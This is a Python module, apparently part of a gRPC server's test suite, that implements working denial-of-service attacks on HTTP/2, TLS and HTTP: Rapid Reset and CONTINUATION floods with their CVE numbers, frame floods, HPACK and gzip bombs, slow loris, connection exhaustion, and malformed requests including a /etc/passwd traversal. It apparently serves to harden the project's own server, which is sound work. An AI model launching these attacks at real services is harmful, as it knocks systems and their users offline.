"""Attacks on HTTP/2, TLS and HTTP, each of one connection or of many, as frames and bytes.

An attack is a coroutine that ends when its target has closed the connection, or after some seconds.
It gives the number of frames, or of connections, that it has sent.
"""

from __future__ import annotations

import asyncio
import contextlib
import gzip
import random
import ssl
from collections.abc import AsyncIterator, Awaitable, Callable, Sequence
from contextlib import asynccontextmanager
from dataclasses import dataclass
from typing import Final

from aerobee.rpc.core import frames, hpack
from aerobee.runtime.varint import varint
from tests.rpc.core.fuzz import conversation, mutated
from tests.support.raw_http2 import call, data, headers, message, request_block

ATTACK_S: Final = 4.0
CONNECTIONS: Final = 150
BURST: Final = 50


@dataclass(frozen=True)
class Target:
    """A gRPC port."""

    address: str
    paths: Sequence[str]
    """Methods that it serves."""
    tls: ssl.SSLContext | None


class Wire:
    """A connection to which anything is written; what comes is read and thrown away."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self._reader, self._writer = reader, writer
        self.sent = 0
        self._reading = asyncio.get_running_loop().create_task(self._read())

    async def _read(self) -> None:
        with contextlib.suppress(OSError):
            while await self._reader.read(1 << 16):
                pass

    @property
    def is_open(self) -> bool:
        return not self._reading.done()

    async def send(self, *parts: bytes) -> None:
        """Each part counts as one."""
        with contextlib.suppress(OSError):
            self._writer.write(b"".join(parts))
            self.sent += len(parts)
            await self._writer.drain()
            await asyncio.sleep(0)

    async def flood(self, part: bytes, times: int) -> int:
        parts = [part] * BURST
        for _ in range(0, times, BURST):
            if not self.is_open:
                break
            await self.send(*parts)
        return self.sent

    async def ended(self, patience_s: float = ATTACK_S) -> int:
        """Waits until the target closes, or patience ends."""
        await asyncio.wait({self._reading}, timeout=patience_s)
        return self.sent

    async def close(self) -> None:
        self._reading.cancel()
        self._writer.close()
        await asyncio.gather(self._reading, return_exceptions=True)


@asynccontextmanager
async def wire(
    target: Target, *settings: tuple[int, int], opening: bool = True
) -> AsyncIterator[Wire]:
    """Raises OSError: the target is full."""
    host, _, port = target.address.rpartition(":")
    name = host if target.tls else None
    reader, writer = await asyncio.open_connection(
        host, int(port), ssl=target.tls, server_hostname=name
    )
    made = Wire(reader, writer)
    try:
        if opening:
            await made.send(frames.PREFACE, frames.settings_frame(settings))
        yield made
    finally:
        await made.close()


@asynccontextmanager
async def bare(address: str) -> AsyncIterator[Wire]:
    """Without TLS, whatever the port speaks."""
    async with wire(Target(address, (), None), opening=False) as made:
        yield made


def _path(target: Target, chance: random.Random) -> str:
    return chance.choice(target.paths)


async def rapid_reset(target: Target, chance: random.Random) -> int:
    """CVE-2023-44487."""
    block = request_block(_path(target, chance))
    async with wire(target) as peer:
        for first in range(1, 20_000, 2 * BURST):
            if not peer.is_open:
                break
            for stream in range(first, first + 2 * BURST, 2):
                await peer.send(headers(stream, block), frames.rst_stream(stream, 8))
        return peer.sent


async def hanging_streams(target: Target, chance: random.Random) -> int:
    """More than a connection may have, and none of them is ever finished."""
    block = request_block(_path(target, chance))
    async with wire(target) as peer:
        for first in range(1, 4_000, 2 * BURST):
            streams = range(first, first + 2 * BURST, 2)
            await peer.send(*[headers(stream, block) for stream in streams])
        return await peer.ended()


async def continuations(target: Target, chance: random.Random) -> int:
    """CVE-2024-27316."""
    part = chance.choice((b"", hpack.encode([(b"x-more", b"x" * 1_000)])))
    async with wire(target) as peer:
        await peer.send(headers(1, request_block(_path(target, chance)), flags=0))
        return await peer.flood(frames.frame(frames.CONTINUATION, 0, 1, part), 10_000)


FLOODS: Final = (
    frames.settings_frame([(frames.INITIAL_WINDOW_SIZE, 65_535)]),
    frames.settings_frame([(frames.HEADER_TABLE_SIZE, 1 << 30), (frames.MAX_FRAME_SIZE, 1 << 14)]),
    frames.frame(frames.SETTINGS, frames.ACK, 0),
    frames.frame(frames.PING, 0, 0, b"12345678"),
    frames.frame(frames.PRIORITY, 0, 1, b"\0\0\0\0\1"),
    frames.frame(frames.DATA, frames.PADDED, 1, b"\0"),
    frames.window_update(0, 1),
    frames.frame(0x42, 0, 0, b"?"),
    frames.goaway(0, 0),
    frames.rst_stream(1, 8),
    data(1, b""),
    data(1, b"x"),
)


async def control_flood(target: Target, chance: random.Random) -> int:
    async with wire(target) as peer:
        await peer.send(headers(1, request_block(_path(target, chance))))
        return await peer.flood(chance.choice(FLOODS), 20_000)


async def window_games(target: Target, chance: random.Random) -> int:
    """Streams without a window, whose windows then move to and fro, one byte at a time, too far."""
    async with wire(target, (frames.INITIAL_WINDOW_SIZE, 0)) as peer:
        path = _path(target, chance)
        await peer.send(*[call(stream, path, b"") for stream in range(1, 200, 2)])
        game = chance.randrange(4)
        if game == 0:
            both = [frames.settings_frame([(frames.INITIAL_WINDOW_SIZE, size)]) for size in (1, 0)]
            return await peer.flood(b"".join(both), 5_000)
        if game == 1:
            return await peer.flood(frames.window_update(1, 1), 20_000)
        if game == 2:
            await peer.send(*[frames.window_update(0, (1 << 31) - 1)] * 2)
        else:
            await peer.send(frames.settings_frame([(frames.INITIAL_WINDOW_SIZE, 1 << 31)]))
        return await peer.ended()


async def header_bomb(target: Target, chance: random.Random) -> int:
    """A long field in the table, and ten thousand references to it; sizes of the table that
    change; numbers without end; noise."""
    block = request_block(_path(target, chance))
    long = b"\x40\x06x-bomb" + b"\x7f\xa1\x1e" + b"b" * 4_000
    async with wire(target) as peer:
        await peer.send(headers(1, block + long))
        bomb = chance.choice(
            (
                block + b"\xbe" * 10_000,
                b"\x3f\xe1\x1f\x20" * 2_000 + block,
                block + b"\x7f" + b"\xff" * 9_000,
                block + b"\x40\xff\xff\xff\x7f" + chance.randbytes(8_000),
                chance.randbytes(12_000),
            )
        )
        for stream in range(3, 3 + 2 * 300, 2):
            if not peer.is_open:
                break
            await peer.send(headers(stream, bomb))
        return await peer.ended(1.0)


async def message_bomb(target: Target, chance: random.Random) -> int:
    """16 MiB of zeros in 16 KiB, and messages that say that they are longer than they may be."""
    squeezed = gzip.compress(bytes(16 << 20))
    path = _path(target, chance)
    async with wire(target) as peer:
        for stream in range(1, 40, 2):
            if not peer.is_open:
                break
            if chance.random() < 0.5:
                await peer.send(headers(stream, request_block(path, (b"grpc-encoding", b"gzip"))))
                content = message(squeezed, 1)
                parts = [content[at : at + 16_000] for at in range(0, len(content), 16_000)]
                await peer.send(*[data(stream, part) for part in parts])
            else:
                await peer.send(headers(stream, request_block(path)))
                await peer.send(data(stream, b"\0" + b"\xff" * 4 + b"x" * 16_000))
        return await peer.ended(1.0)


async def never_read(target: Target, chance: random.Random) -> int:
    """Calls whose answers are never read, with windows that allow all of them."""
    settings = (frames.INITIAL_WINDOW_SIZE, (1 << 31) - 1)
    async with wire(target, settings) as peer:
        peer._reading.cancel()
        path = _path(target, chance)
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(ATTACK_S):
                for stream in range(1, 2_000, 2):
                    await peer.send(call(stream, path))
        return peer.sent


async def slow_loris(target: Target, chance: random.Random) -> int:
    """Byte by byte, or a beginning and nothing more."""
    whole = frames.PREFACE + frames.settings_frame([]) + call(1, _path(target, chance))
    async with wire(target, opening=False) as peer:
        await peer.send(whole[: chance.randrange(len(whole))])
        for _ in range(20):
            await peer.send(chance.randbytes(1) if chance.random() < 0.1 else b"\0")
            await asyncio.sleep(ATTACK_S / 20)
        return peer.sent


async def many_connections(target: Target, chance: random.Random) -> int:
    opened = 0
    async with contextlib.AsyncExitStack() as stack:
        for _ in range(CONNECTIONS):
            with contextlib.suppress(OSError):
                await stack.enter_async_context(wire(target, opening=chance.random() < 0.7))
                opened += 1
        await asyncio.sleep(ATTACK_S)
    return opened


async def half_handshakes(target: Target, chance: random.Random) -> int:
    """The beginning of a TLS handshake, or what looks like one; also where no TLS is spoken."""
    hello = client_hello()
    sent = 0
    async with contextlib.AsyncExitStack() as stack:
        for _ in range(CONNECTIONS // 3):
            with contextlib.suppress(OSError):
                peer = await stack.enter_async_context(bare(target.address))
                part = bytearray(hello[: chance.randrange(1, len(hello) + 1)])
                if chance.random() < 0.5:
                    part[chance.randrange(len(part))] ^= 1 << chance.randrange(8)
                await peer.send(bytes(part))
                sent += 1
        await asyncio.sleep(ATTACK_S / 2)
    return sent


def client_hello() -> bytes:
    context = ssl.create_default_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing, server_hostname="localhost").do_handshake()
    return outgoing.read()


async def odd_conversation(target: Target, chance: random.Random) -> int:
    """A valid conversation that was cut, repeated, flipped or filled with noise."""
    async with wire(target, opening=False) as peer:
        await peer.send(mutated(conversation(chance, target.paths), chance))
        return await peer.ended(0.2)


async def noise(target: Target, chance: random.Random) -> int:
    async with wire(target, opening=False) as peer:
        begin = chance.choice((b"", frames.PREFACE, b"GET / HTTP/1.1\r\n\r\n", b"\x16\x03\x01"))
        await peer.send(begin + chance.randbytes(chance.randrange(2_000)))
        return await peer.ended(0.2)


Attack = Callable[[Target, random.Random], Awaitable[int]]
ATTACKS: Final[tuple[Attack, ...]] = (
    rapid_reset, hanging_streams, continuations, control_flood, window_games, header_bomb,
    message_bomb, never_read, slow_loris, many_connections, half_handshakes,
    *(odd_conversation,) * 6, *(noise,) * 3,
)  # fmt: skip


# ------------------------------------------------------------------------------ the metrics port


_LINES: Final = (
    b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET /" + b"x" * 70_000 + b" HTTP/1.1\r\n\r\n",
    b"POST /metrics HTTP/1.1\r\nContent-Length: 99999999999\r\n\r\nx",
    b"GET /metrics HTTP/1.1\r\n" + b"X-Many: y\r\n" * 500 + b"\r\n",
    b"GET /metrics HTTP/9.9\r\n\r\n",
    b"GET /../../etc/passwd HTTP/1.0\r\n\r\n",
    b"GET  \x00\xff HTTP/1.1\r\n\r\n",
    b"\r\n" * 1_000,
    frames.PREFACE,
    varint(1 << 60) * 50,
)


async def http_noise(address: str, chance: random.Random, tls: ssl.SSLContext | None) -> int:
    """What no scraper says, now and then slowly."""
    target = Target(address, (), tls if chance.random() < 0.8 else None)
    async with wire(target, opening=False) as peer:
        if chance.random() < 0.2:
            for _ in range(10):
                await peer.send(b"G")
                await asyncio.sleep(ATTACK_S / 10)
        else:
            line = chance.choice(_LINES)
            await peer.send(line if chance.random() < 0.7 else chance.randbytes(300))
        return await peer.ended(0.5)
